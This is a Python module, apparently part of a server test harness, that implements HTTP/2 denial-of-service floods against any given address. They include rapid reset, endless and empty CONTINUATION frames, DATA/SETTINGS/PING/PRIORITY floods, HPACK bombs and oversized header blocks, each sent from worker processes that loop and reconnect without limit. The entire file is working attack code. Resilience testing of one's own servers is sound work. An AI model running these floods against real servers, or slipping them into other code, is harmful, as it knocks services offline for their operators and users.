"""Floods of HTTP/2 frames.

Each flood is a process that writes the same bytes as fast as they are taken and connects
anew whenever it is let go.
"""

import contextlib
import multiprocessing
import socket
import time

from harness.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    frame,
    head,
    literal,
    remembered,
)

_MANY = 1_000


def _opening(*frames: bytes) -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0) + b"".join(frames)


def _each_stream(make) -> bytes:
    """Streams may not be used again, so a connection has these and no more."""
    return b"".join(make(2 * number + 1) for number in range(20 * _MANY))


def _bomb(stream: int) -> bytes:
    """An entry of 4,000 bytes, and 16,000 references to it of one byte each."""
    block = head() + remembered("x", "y" * 3_900) + b"\xbe" * 12_000
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


# By name, what opens the connection and what is repeated on it.
FLOODS = {
    "rapid reset": lambda: (
        _opening(),
        _each_stream(
            lambda stream: (
                frame(HEADERS, END_HEADERS | END_STREAM, stream, head())
                + frame(RST_STREAM, 0, stream, (8).to_bytes(4))
            )
        ),
    ),
    "CONTINUATION without end": lambda: (
        _opening(frame(HEADERS, END_STREAM, 1, head())),
        frame(CONTINUATION, 0, 1, literal("x", "y" * 16_000)) * 50,
    ),
    "empty CONTINUATION": lambda: (
        _opening(frame(HEADERS, END_STREAM, 1, head())),
        frame(CONTINUATION, 0, 1) * _MANY,
    ),
    "empty DATA": lambda: (
        _opening(frame(HEADERS, END_HEADERS, 1, head())),
        frame(DATA, 0, 1) * _MANY,
    ),
    "DATA of one byte": lambda: (
        _opening(frame(HEADERS, END_HEADERS, 1, head())),
        frame(DATA, 0, 1, b"x") * _MANY,
    ),
    "SETTINGS": lambda: (
        _opening(),
        frame(SETTINGS, 0, 0, bytes([0, 4, 0, 0, 255, 255])) * _MANY,
    ),
    "PING": lambda: (_opening(), frame(PING, 0, 0, b"12345678") * _MANY),
    "PRIORITY": lambda: (_opening(), frame(PRIORITY, 0, 1, bytes([0, 0, 0, 3, 1])) * _MANY),
    "HPACK bombs": lambda: (_opening(), b"".join(_bomb(2 * n + 1) for n in range(200))),
    "heads too large": lambda: (
        _opening(),
        b"".join(
            frame(HEADERS, END_STREAM, 2 * n + 1, head())
            + frame(CONTINUATION, 0, 2 * n + 1, literal("x", "y" * 16_000)) * 4
            + frame(CONTINUATION, END_HEADERS, 2 * n + 1, literal("x", "y" * 16_000))
            for n in range(100)
        ),
    ),
}


@contextlib.contextmanager
def flood(address: str, name: str, connections: int = 2):
    """Floods until it is left. Gives the bytes sent and the connections opened, by worker."""
    # Each counts for itself: a lock would stay taken for ever by a worker that is killed with it.
    sent = multiprocessing.Array("Q", connections, lock=False)
    opened = multiprocessing.Array("Q", connections, lock=False)
    workers = [
        multiprocessing.Process(
            target=_flood, args=(address, name, number, sent, opened), daemon=True
        )
        for number in range(connections)
    ]
    for worker in workers:
        worker.start()
    try:
        yield sent, opened
    finally:
        for worker in workers:
            worker.kill()
            worker.join()


def _flood(address: str, name: str, number: int, sent, opened) -> None:
    host, _, port = address.rpartition(":")
    opening, repeated = FLOODS[name]()
    while True:
        with contextlib.suppress(OSError), socket.create_connection((host, int(port))) as peer:
            opened[number] += 1
            peer.settimeout(2)
            peer.sendall(opening)
            while True:
                peer.sendall(repeated)
                sent[number] += len(repeated)
                if name in ("rapid reset", "HPACK bombs", "heads too large"):
                    # Its streams are used up.
                    _read_to_the_end(peer)
                    break
        time.sleep(0.001)


def _read_to_the_end(peer: socket.socket) -> None:
    with contextlib.suppress(OSError):
        peer.settimeout(0.2)
        while peer.recv(1 << 16):
            pass
